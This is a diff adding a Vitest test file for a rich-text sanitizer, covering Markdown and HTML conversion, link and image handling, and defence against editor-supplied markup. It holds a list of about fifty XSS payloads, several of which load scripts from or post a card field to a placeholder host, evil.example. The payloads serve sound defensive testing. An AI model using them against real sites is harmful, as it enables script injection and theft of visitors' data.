@@ -1,0 +1,216 @@
+import { describe, expect, it } from 'vitest'
+import { toSafeHtml } from '../../src/content/rich-text.ts'
+import { randomFor, seed } from './seed.ts'
+
+describe('nothing', () => {
+  it.each([undefined, null, '', '  \n\t ', '<script>alert(1)</script>', '<!-- note -->'])(
+    'is left of %j',
+    async (text) => {
+      expect(await toSafeHtml(text)).toBeUndefined()
+    },
+  )
+})
+
+describe('Markdown', () => {
+  it.each([
+    ['Просто текст', '<p>Просто текст</p>'],
+    ['**жирно** и *курсив*', '<p><strong>жирно</strong> и <em>курсив</em></p>'],
+    ['## Раздел', '<h2>Раздел</h2>'],
+    ['- один\n- два', '<ul>\n<li>один</li>\n<li>два</li>\n</ul>'],
+    ['1. один', '<ol>\n<li>один</li>\n</ol>'],
+    ['> цитата', '<blockquote>\n<p>цитата</p>\n</blockquote>'],
+    ['[зал](/venues/hall)', '<p><a href="/venues/hall">зал</a></p>'],
+    ['[почта](mailto:a@b.example)', '<p><a href="mailto:a@b.example">почта</a></p>'],
+    ['~~1500~~ 900', '<p><del>1500</del> 900</p>'],
+    ['один  \nдва', '<p>один<br />два</p>'],
+    ['3. третий', '<ol start="3">\n<li>третий</li>\n</ol>'],
+    ['`code`', '<p><code>code</code></p>'],
+  ])('%j becomes %s', async (text, html) => {
+    expect(await toSafeHtml(text)).toBe(html)
+  })
+
+  it('keeps tables', async () => {
+    const html = await toSafeHtml('| a | b |\n|---|---|\n| 1 | 2 |')
+    expect(html?.replace(/\s+/g, '')).toBe(
+      '<table><thead><tr><th>a</th><th>b</th></tr></thead><tbody><tr><td>1</td><td>2</td></tr></tbody></table>',
+    )
+  })
+})
+
+describe('HTML', () => {
+  it('of allowed tags is kept', async () => {
+    const html = '<p>Текст <strong>жирно</strong></p><table><tbody><tr><td>1</td></tr></tbody></table>'
+    expect(await toSafeHtml(html)).toBe(html)
+  })
+
+  it('keeps cells that span several', async () => {
+    const html = '<table><tbody><tr><th colspan="2" scope="row">1</th></tr></tbody></table>'
+    expect(await toSafeHtml(html)).toBe(html)
+  })
+
+  it('mixed with Markdown becomes one text', async () => {
+    expect(await toSafeHtml('<p>HTML</p>\n\n## Раздел\n\nи **текст** с <b>тегом</b>')).toBe(
+      '<p>HTML</p><h2>Раздел</h2>\n<p>и <strong>текст</strong> с <b>тегом</b></p>',
+    )
+  })
+
+  it.each([
+    ['# A', '<h2>A</h2>'],
+    ['<h1>A</h1>', '<h2>A</h2>'],
+    ['<h5>A</h5>', '<h4>A</h4>'],
+    ['###### A', '<h4>A</h4>'],
+    ['### A', '<h3>A</h3>'],
+  ])('heading %s becomes %s, for the page has an h1 of its own', async (text, html) => {
+    expect(await toSafeHtml(text)).toBe(html)
+  })
+
+  it('that is left open is closed', async () => {
+    expect(await toSafeHtml('<p>один <b>два')).toBe('<p>один <b>два</b></p>')
+  })
+
+  it('keeps a language that is marked', async () => {
+    expect(await toSafeHtml('<p lang="en">text</p>')).toBe('<p lang="en">text</p>')
+  })
+})
+
+describe('links and pictures', () => {
+  it('to another site tell it nothing of the opener', async () => {
+    expect(await toSafeHtml('[x](https://other.example/)')).toContain('rel="noopener"')
+  })
+
+  it('open where the visitor is, whatever the editor wrote', async () => {
+    expect(await toSafeHtml('<a href="/a" target="_blank">x</a>')).toBe('<p><a href="/a">x</a></p>')
+  })
+
+  it('load lazily and always have an alt', async () => {
+    expect(await toSafeHtml('<img src="/a.jpg">')).toBe('<img alt="" src="/a.jpg" loading="lazy" />')
+  })
+
+  it('keep the alt that the editor wrote', async () => {
+    expect(await toSafeHtml('![Зал](/a.jpg)')).toContain('alt="Зал"')
+  })
+})
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<SCRIPT SRC=https://evil.example/x.js></SCRIPT>',
+  '<scr<script>ipt>alert(1)</scr</script>ipt>',
+  '<script/x>alert(1)</script >',
+  '<script>alert(1)',
+  '<img src=x onerror=alert(1)>',
+  '<img src=x oNeRrOr="alert(1)" >',
+  '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
+  '<a href="javascript:alert(1)">x</a>',
+  '<a href=" JaVaScRiPt:alert(1)">x</a>',
+  '<a href="java\nscript:alert(1)">x</a>',
+  '<a href="java&#x09;script:alert(1)">x</a>',
+  '<a href="&#106;avascript:alert(1)">x</a>',
+  '<a href="\u0001javascript:alert(1)">x</a>',
+  '<a href="vbscript:x">x</a>',
+  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
+  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
+  '<a href="//evil.example/x">x</a>',
+  '<a href="/\\evil.example/x">x</a>',
+  '<a href="\\\\evil.example/x">x</a>',
+  '<a href="/\t/evil.example/x">x</a>',
+  '<img src="//evil.example/x.png">',
+  '[x](javascript:alert(1))',
+  '[x](<javascript:alert(1)>)',
+  '[x](data:text/html,x)',
+  '![x](javascript:alert(1))',
+  '<javascript:alert(1)>',
+  '<iframe src="https://evil.example"></iframe>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<object data="x.swf"></object><embed src="x.swf">',
+  '<style>body{display:none}</style>',
+  '<p style="position:fixed;inset:0">x</p>',
+  '<link rel="stylesheet" href="https://evil.example/x.css">',
+  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+  '<base href="https://evil.example/">',
+  '<svg onload=alert(1)><script>alert(1)</script></svg>',
+  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
+  '<math><mtext><style><img src=x onerror=alert(1)></style></mtext></math>',
+  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
+  '<form action="https://evil.example"><input name="card"><button>x</button></form>',
+  '<textarea><script>alert(1)</script></textarea>',
+  '<template><script>alert(1)</script></template>',
+  '<tutti-later id="0"></tutti-later>',
+  '<p id="main" class="header" name="x">x</p>',
+  '<!--><script>alert(1)</script>-->',
+  '<![CDATA[<script>alert(1)</script>]]>',
+  '<a href="https://ok.example" ping="https://evil.example" download>x</a>',
+  '<img srcset="//evil.example/x.png 1x" src="/a.jpg">',
+  '<video autoplay><source src=x onerror=alert(1)></video>',
+]
+
+/** What no text may hold once it is safe; the address rules are read as a browser reads addresses. */
+function whatIsUnsafe(html: string): string[] {
+  const found: string[] = []
+  for (const [, slash, name = '', attributes = ''] of html.matchAll(/<(\/?)([^\s/>]*)([^>]*)>/g)) {
+    if (
+      !/^(p|br|hr|h[2-4]|strong|b|em|i|s|del|su[bp]|small|mark|blockquote|[uo]l|li|a|code|pre|table|thead|tbody|t[rhd]|figure|figcaption|img|abbr|time)$/.test(
+        name,
+      )
+    ) {
+      found.push(`tag <${slash}${name}>`)
+    }
+    for (const [, attribute = '', value = ''] of attributes.matchAll(/([^\s=/]+)="([^"]*)"/g)) {
+      if (
+        !/^(href|title|rel|src|alt|width|height|loading|datetime|lang|start|colspan|rowspan|scope)$/.test(
+          attribute,
+        )
+      )
+        found.push(attribute)
+      if ((attribute === 'href' || attribute === 'src') && !isSafeAddress(value)) found.push(value)
+    }
+  }
+  return found
+}
+
+function isSafeAddress(value: string): boolean {
+  const written = value.replaceAll('&amp;', '&')
+  if (!URL.canParse(written, 'https://site.example/page')) return true
+  const address = new URL(written, 'https://site.example/page')
+  const isNamed = /^\s*https?:/i.test(written)
+  return ['mailto:', 'tel:'].includes(address.protocol) || isNamed || address.host === 'site.example'
+}
+
+describe('what an editor must not be able to do', () => {
+  it.each(attacks)('%j is made harmless', async (attack) => {
+    expect(whatIsUnsafe((await toSafeHtml(attack)) ?? '')).toEqual([])
+  })
+
+  it.each(attacks)('%j is made harmless in the middle of Markdown', async (attack) => {
+    const html = await toSafeHtml(
+      `## Раздел\n\nтекст ${attack} и **ещё**\n\n- ${attack}\n\n| ${attack} |\n|---|`,
+    )
+    expect(whatIsUnsafe(html ?? '')).toEqual([])
+  })
+
+  it('text of a removed script is removed as well', async () => {
+    expect(await toSafeHtml('до <script>alert(1)</script> после')).toBe('<p>до  после</p>')
+  })
+
+  it('text of an unknown tag is kept', async () => {
+    expect(await toSafeHtml('<p><font color="red">красный</font></p>')).toBe('<p>красный</p>')
+  })
+
+  it(`attacks cut up and joined at random are made harmless (seed ${seed})`, async () => {
+    const random = randomFor('rich-text')
+    const whole = attacks.join('')
+    for (let round = 0; round < 400; round++) {
+      const pieces = Array.from({ length: random.whole(1, 6) }, () => {
+        const start = random.whole(0, whole.length - 1)
+        return whole.slice(start, start + random.whole(1, 60))
+      })
+      const text = pieces.join(random.pick(['', '\n', '"', '>', '<', '`', '\n\n']))
+      expect(whatIsUnsafe((await toSafeHtml(text)) ?? ''), JSON.stringify({ round, text })).toEqual([])
+    }
+  })
+})
+
+describe('a long text', () => {
+  it('of deeply nested lists and quotes is answered', async () => {
+    expect(await toSafeHtml(`${'> '.repeat(60)}текст`)).toContain('текст')
+  })
+})
